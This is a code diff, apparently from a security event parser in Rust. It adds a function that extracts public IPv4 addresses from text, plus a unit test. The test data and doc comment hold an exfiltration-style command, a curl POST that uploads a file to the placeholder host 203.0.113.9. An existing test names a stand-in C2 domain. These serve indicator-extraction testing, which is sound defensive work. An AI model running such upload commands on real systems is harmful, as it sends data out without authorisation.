@@ -139,6 +139,21 @@ fn first(ev: &Event, ids: &[FieldId]) -> Option<String> {
     })
 }
 
+/// Appends the public IPv4 addresses written in `text` (`curl https://203.0.113.9/up`).
+pub fn public_ipv4s_in(text: &str, out: &mut Vec<String>) {
+    for token in text.split(|c: char| !(c.is_ascii_digit() || c == '.')) {
+        let token = token.trim_matches('.');
+        if token.len() >= 7
+            && token.bytes().filter(|&b| b == b'.').count() == 3
+            && token.parse::<std::net::Ipv4Addr>().is_ok()
+            && is_public(token)
+            && !out.iter().any(|x| x == token)
+        {
+            out.push(token.to_string());
+        }
+    }
+}
+
 fn is_public(ip: &str) -> bool {
     match ip.trim().parse::<IpAddr>() {
         Ok(IpAddr::V4(a)) => {
@@ -188,5 +203,15 @@ mod tests {
         assert_eq!(e.src_ip.as_deref(), Some("10.0.0.5"));
         assert_eq!(e.indicators, vec!["203.0.113.7", "c2.evil.example"]);
         assert_eq!(e.process.as_deref(), Some("{abc}"));
+    }
+
+    #[test]
+    fn addresses_in_values() {
+        let mut out = Vec::new();
+        public_ipv4s_in(
+            "curl -X POST https://203.0.113.9/up -d @x 10.0.0.1 1.2.3 999.1.1.1",
+            &mut out,
+        );
+        assert_eq!(out, vec!["203.0.113.9"]);
     }
 }
